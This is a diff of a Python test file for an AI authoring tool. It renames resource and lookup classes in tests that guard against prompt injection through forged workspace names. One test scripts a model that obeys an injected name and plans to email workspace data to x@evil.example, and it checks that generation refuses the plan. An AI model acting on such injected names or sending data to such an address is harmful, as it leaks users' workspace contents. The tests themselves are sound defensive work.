@@ -9,11 +9,11 @@ from typing import Any
 
 import pytest
 
-from mainspring.actions.agent.words import Marks
+from mainspring.actions.agent.words import QuoteMarkers
 from mainspring.authoring.generate.generating import TOOLS, generate
-from mainspring.authoring.generate.looking import Looking, find
+from mainspring.authoring.generate.looking import ModelLookup, find
 from mainspring.authoring.generate.prompts import system_text
-from mainspring.authoring.resources import Board, Dataset, Resources
+from mainspring.authoring.resources import BoardSummary, DatasetSummary, WorkspaceResources
 from mainspring.contracts.capability import Annotations, Capability, Effect
 from mainspring.contracts.context import CallContext
 from mainspring.contracts.model import ModelRequest
@@ -56,11 +56,11 @@ PLACE = Registry(
 )
 
 
-def looking(resources: Resources = RESOURCES) -> Looking:
-    return Looking(resources, PLACE, Marks(MARK, 50_000))
+def looking(resources: WorkspaceResources = RESOURCES) -> ModelLookup:
+    return ModelLookup(resources, PLACE, QuoteMarkers(MARK, 50_000))
 
 
-def answered(name: str, given: Any, resources: Resources = RESOURCES) -> str:
+def answered(name: str, given: Any, resources: WorkspaceResources = RESOURCES) -> str:
     found = looking(resources).answer(name, given)
     assert found is not None
     return found.content
@@ -75,8 +75,8 @@ def quoted(content: str) -> str:
 
 
 def test_a_hostile_name_stays_between_the_marks_even_when_it_knows_them() -> None:
-    hostile = Resources(
-        boards=(Board(BOARD, FORGED, FORGED, (Dataset(FORGED, (FORGED,)),)),),
+    hostile = WorkspaceResources(
+        boards=(BoardSummary(BOARD, FORGED, FORGED, (DatasetSummary(FORGED, (FORGED,)),)),),
         page_types=(FORGED,),
         event_types={FORGED: FORGED},
         secrets=(FORGED,),
@@ -105,7 +105,7 @@ def test_only_names_and_columns_of_boards_are_told_never_their_texts() -> None:
 
 def test_what_can_be_looked_up_holds_no_content() -> None:
     """Whoever adds a field here decides whether a model may read it."""
-    assert {one.name for one in fields(Resources)} == {
+    assert {one.name for one in fields(WorkspaceResources)} == {
         "boards",
         "page_types",
         "event_types",
@@ -113,8 +113,8 @@ def test_what_can_be_looked_up_holds_no_content() -> None:
         "automations",
         "has_model",
     }
-    assert {one.name for one in fields(Board)} == {"id", "name", "description", "datasets"}
-    assert {one.name for one in fields(Dataset)} == {"name", "columns", "dedupe_key_field"}
+    assert {one.name for one in fields(BoardSummary)} == {"id", "name", "description", "datasets"}
+    assert {one.name for one in fields(DatasetSummary)} == {"name", "columns", "dedupe_key_field"}
     assert [one.name for one in TOOLS] == [
         "list_resources",
         "find_capabilities",
@@ -159,7 +159,9 @@ def test_arguments_that_say_nothing_get_a_sentence(name: str, given: Any) -> Non
 
 def test_what_is_not_there_is_said_and_the_nearest_is_named() -> None:
     assert "slack_post" in answered("describe_capability", {"name": "slack_pots"})
-    assert "no secrets here" in answered("list_resources", {"kind": "secrets"}, Resources())
+    assert "no secrets here" in answered(
+        "list_resources", {"kind": "secrets"}, WorkspaceResources()
+    )
     assert "is an action" in answered("describe_capability", {"name": "agent_task"})
     assert "Nothing was found" in answered("find_capabilities", {"words": "zzzz"})
 
@@ -186,7 +188,7 @@ async def test_a_name_that_gives_orders_gets_nothing_done_even_by_a_model_that_o
         "config": {"to": ["x@evil.example"], "subject": "all", "text": "of it"},
     }
     model = Scripted(calls("list_resources", kind="boards"), hands_in(plain(plan=[mail])))
-    hostile = Resources(boards=(Board(BOARD, FORGED),))
+    hostile = WorkspaceResources(boards=(BoardSummary(BOARD, FORGED),))
     made = await generate(desk_for(model, resources=hostile), wish_for(DAILY))
     assert made.sketch is None
     assert "x@evil.example" in made.refused[0]
